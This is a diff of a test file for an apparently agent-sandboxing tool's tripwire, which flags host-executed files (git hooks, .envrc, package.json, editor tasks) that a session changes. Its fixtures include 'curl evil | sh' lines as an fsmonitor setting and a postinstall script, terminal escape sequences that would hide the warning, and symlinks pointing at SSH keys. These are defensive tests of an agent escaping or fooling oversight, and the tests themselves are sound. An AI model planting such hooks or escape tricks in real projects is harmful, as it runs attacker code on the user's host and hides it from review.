@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import json
 import os
+import signal
 import subprocess
 import sys
 import time
@@ -40,7 +42,8 @@ def test_agent_writes_are_named_after_the_session(repo: Path) -> None:
     )
     assert result.returncode == 0, result.stderr
     err = result.stderr
-    assert "WARNING: the session changed files that your host runs" in err
+    assert "agentbox: WARNING: the session changed 3 watched files that your host runs without asking: " \
+           ".envrc, .git/config, .git/hooks/post-checkout." in err
     assert "added     .git/hooks/post-checkout" in err
     assert "modified  .git/config" in err
     assert "+\tfsmonitor = curl evil | sh" in err
@@ -52,13 +55,165 @@ def test_agent_writes_are_named_after_the_session(repo: Path) -> None:
     assert ".git/hooks/post-checkout" in audit.stderr and ".envrc" in audit.stderr
 
 
+def test_the_summary_is_the_last_thing_printed(repo: Path) -> None:
+    # A long diff must not push the warning itself off the screen.
+    result = session(repo, "seq 1 100 > Makefile && echo 'export X=1' > .envrc")
+    blocks = result.stderr.rstrip("\n").split(tripwire.BAR + "\n")
+    assert "+100" not in blocks[-1] and "@@" not in blocks[-1]
+    assert blocks[-1].splitlines()[0] == (
+        "agentbox: WARNING: the session changed 2 watched files that your host runs without asking: .envrc, Makefile."
+    )
+    assert blocks[-1].splitlines()[-1] == tripwire.BAR
+    assert "... 63 more lines" in blocks[-2]  # the diff, capped, comes before
+
+
+def test_escape_sequences_in_names_and_contents_are_printed_escaped(repo: Path) -> None:
+    # An agent that erases the warning line, rewrites it with a carriage return, or reverses it.
+    hook = "$(printf '.git/hooks/post-\\033[2K\\rcheckout\\342\\200\\256')"
+    content = "printf 'echo hi\\033[1A\\033[2K\\r\\b\\302\\233x\\342\\200\\256kcilc\\techo done\\n'"
+    result = subprocess.run(
+        [sys.executable, "-m", "agentbox", "shell", "--", "sh", "-c",
+         f"{content} > \"{hook}\" && {content} > .envrc && mkdir .husky && touch \"$(printf '.husky/\\233bad')\""],
+        cwd=repo, capture_output=True, timeout=120,
+    )
+    assert result.returncode == 0, result.stderr
+    err = result.stderr
+    for raw in (b"\x1b", b"\r", b"\x08", "\u202e".encode(), "\u009b".encode(), b"\x9b"):
+        assert raw not in err
+    text = err.decode()
+    assert "added     .git/hooks/post-\\x1b[2K\\rcheckout\\u202e" in text
+    assert "+echo hi\\x1b[1A\\x1b[2K\\r\\x08\\x9bx\\u202ekcilc\techo done" in text  # tab kept
+    assert "added     .husky/\\x9bbad" in text
+
+    audit = run_cli("audit", cwd=repo)
+    assert audit.exit_code == 1
+    assert "\x1b" not in audit.stderr and "\u202e" not in audit.stderr and "\r" not in audit.stderr
+    assert ".git/hooks/post-\\x1b[2K\\rcheckout\\u202e" in audit.stderr
+
+    again = session(repo, "true")
+    assert "\x1b" not in again.stderr and "post-\\x1b[2K\\rcheckout" in again.stderr
+
+
+def test_changes_stay_reported_until_acknowledged(repo: Path) -> None:
+    first = session(repo, "echo 'export X=1' > .envrc")
+    assert "the session changed 1 watched file" in first.stderr
+
+    second = session(repo, "echo AGENT-STARTED >&2")
+    reminder = (
+        "agentbox: 1 watched file that your host runs changed and is not acknowledged: .envrc; "
+        "run `agentbox audit` to see the diffs, `agentbox audit --ack` to accept them\n"
+    )
+    assert reminder in second.stderr
+    assert second.stderr.index(reminder) < second.stderr.index("AGENT-STARTED")
+    assert "WARNING" not in second.stderr  # the second session itself changed nothing
+
+    audit = run_cli("audit", cwd=repo)
+    assert audit.exit_code == 1
+    assert "added     .envrc" in audit.stderr and "+export X=1" in audit.stderr
+    doctor = [c for c in json.loads(run_cli("doctor", "--json", cwd=repo).stdout) if c["check"] == "tripwire"]
+    assert [(c["status"], c["message"]) for c in doctor] == [
+        ("WARN", "1 watched file that your host runs changed and is not acknowledged: .envrc")
+    ]
+
+    ack = run_cli("audit", "--ack", cwd=repo)
+    assert ack.exit_code == 0
+    assert "Accepted 1 changed watched file of" in ack.stderr
+    assert run_cli("audit", cwd=repo).exit_code == 0
+    assert "tripwire" not in run_cli("doctor", "--json", cwd=repo).stdout
+    third = session(repo, "true")
+    assert "not acknowledged" not in third.stderr
+
+
+def test_a_file_changed_in_several_sessions_keeps_the_first_before_and_last_after(repo: Path) -> None:
+    session(repo, "echo one > Makefile")
+    session(repo, "echo two > Makefile")
+    audit = run_cli("audit", cwd=repo)
+    assert audit.exit_code == 1
+    assert "added     Makefile" in audit.stderr
+    assert "+two" in audit.stderr and "one" not in audit.stderr
+    write(repo / "Makefile", "three\n")  # and once more on the host, after the sessions
+    audit = run_cli("audit", cwd=repo)
+    assert "added     Makefile  (changed again after agentbox last looked)" in audit.stderr
+    assert "+three" in audit.stderr
+    session(repo, "rm Makefile")  # back to how it was: nothing left to accept
+    audit = run_cli("audit", cwd=repo)
+    assert audit.exit_code == 0, audit.stderr
+
+
+def test_a_change_after_the_session_is_shown_by_audit(repo: Path) -> None:
+    assert session(repo, "true").returncode == 0
+    # Something still running in the VM (or anyone) changes a watched file after the session ended.
+    write(repo / "package.json", '{"scripts": {"postinstall": "curl evil | sh"}}\n')
+    audit = run_cli("audit", cwd=repo)
+    assert audit.exit_code == 1
+    assert "added     package.json  (changed after the last session started)" in audit.stderr
+    assert '+{"scripts": {"postinstall": "curl evil | sh"}}' in audit.stderr
+    # The next launch does not take it as the new normal: it stays pending.
+    assert "not acknowledged: package.json" in session(repo, "true").stderr
+    assert run_cli("audit", cwd=repo).exit_code == 1
+    assert run_cli("audit", "--ack", cwd=repo).exit_code == 0
+    assert run_cli("audit", cwd=repo).exit_code == 0
+
+
+def test_two_vms_of_one_workspace_share_the_pending_changes(repo: Path) -> None:
+    write(repo / "agentbox.yml", "agents:\n  claude:\n    vmName: agentbox-myproject-claude\n")
+    assert run_cli("trust", cwd=repo).exit_code == 0
+
+    def claude_shell(script: str) -> subprocess.CompletedProcess:
+        return subprocess.run([sys.executable, "-m", "agentbox", "claude", "shell", "--", "sh", "-c", script],
+                              cwd=repo, capture_output=True, text=True, timeout=120)
+
+    assert "the session changed 1 watched file" in session(repo, "echo 'export X=1' > .envrc").stderr
+    # The agent's own VM reminds of what a session in the project's VM changed.
+    assert "not acknowledged: .envrc;" in claude_shell("true").stderr
+    # Two sessions at once, one per VM: the one that ends last must not drop anything.
+    slow = subprocess.Popen(
+        [sys.executable, "-m", "agentbox", "shell", "--", "sh", "-c",
+         "echo SESSION-STARTED >&2; i=0; while [ ! -e go ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done;"
+         " echo 'all:' > Makefile"],
+        cwd=repo, stderr=subprocess.PIPE, text=True, start_new_session=True,
+    )
+    try:
+        while "SESSION-STARTED" not in (slow.stderr.readline() or "SESSION-STARTED"):
+            pass
+        other = claude_shell("mkdir -p .vscode && echo '{}' > .vscode/tasks.json")
+        assert "the session changed 1 watched file that your host runs without asking: .vscode/tasks.json." \
+               in other.stderr
+        (repo / "go").touch()
+        _, slow_err = slow.communicate(timeout=120)
+    finally:
+        if slow.poll() is None:
+            os.killpg(slow.pid, signal.SIGKILL)
+    assert "the session changed 2 watched files that your host runs without asking: .vscode/tasks.json, Makefile." \
+           in slow_err
+    assert "1 watched file changed earlier is not acknowledged either." in slow_err
+    audit = run_cli("audit", cwd=repo)
+    assert audit.exit_code == 1
+    assert ("3 watched files that your host runs without asking changed and are not acknowledged: "
+            ".envrc, .vscode/tasks.json, Makefile.") in audit.stderr
+
+
 def test_a_quiet_session_prints_no_warning(repo: Path) -> None:
     result = session(repo, "echo hello > notes.txt")
     assert result.returncode == 0
     assert "WARNING" not in result.stderr
     audit = run_cli("audit", cwd=repo)
     assert audit.exit_code == 0
-    assert "No changes" in audit.stderr
+    assert "No unacknowledged changes" in audit.stderr
+
+
+def test_audit_before_any_session(project: Path) -> None:
+    audit = run_cli("audit", cwd=project)
+    assert audit.exit_code == 0
+    assert "No session has been recorded" in audit.stderr
+
+
+def test_records_live_in_the_state_folder(repo: Path, isolated_env: dict) -> None:
+    session(repo, "echo x > .envrc")
+    record = tripwire.record_file(repo)
+    assert isolated_env["state"] in record.parents
+    assert (record.stat().st_mode & 0o777) == 0o600
+    assert [p.name for p in record.parent.iterdir() if p.suffix == ".json"] == [record.name]
 
 
 @pytest.mark.parametrize(
@@ -81,6 +236,26 @@ def test_fifo_and_symlink_do_not_hang_or_follow(project: Path) -> None:
     assert time.monotonic() - started < 1
     assert after["Makefile"].digest == "link:/etc/passwd"
     assert {label for label, _ in tripwire.changes(before, after)} == {".envrc", "Makefile"}
+
+
+def test_links_in_place_of_watched_folders_are_watched_not_followed(project: Path, home: Path) -> None:
+    subprocess.run([*GIT, "init", "-q", str(project)], check=True)
+    write(home / ".ssh" / "id_rsa", "PRIVATE KEY\n")
+    write(home / ".ssh" / "tasks.json", "PRIVATE TASKS\n")
+    before = tripwire.fingerprint(project)
+    hooks = project / ".git" / "hooks"
+    for sample in hooks.iterdir():
+        sample.unlink()
+    hooks.rmdir()
+    hooks.symlink_to(home / ".ssh")
+    (project / ".vscode").symlink_to(home / ".ssh")
+    (project / ".github").symlink_to(home)
+    after = tripwire.fingerprint(project)
+    assert not [entry for entry in after.values() if entry.text and "PRIVATE" in entry.text]
+    assert not [label for label in after if "id_rsa" in label or label.startswith(".vscode/")]
+    added = {label for label, kind in tripwire.changes(before, after) if kind == "added"}
+    assert added == {".git/hooks", ".vscode", ".github"}
+    assert after[".vscode"].digest == f"link:{home / '.ssh'}"
 
 
 def test_fingerprint_of_a_large_repository_is_fast(project: Path) -> None:
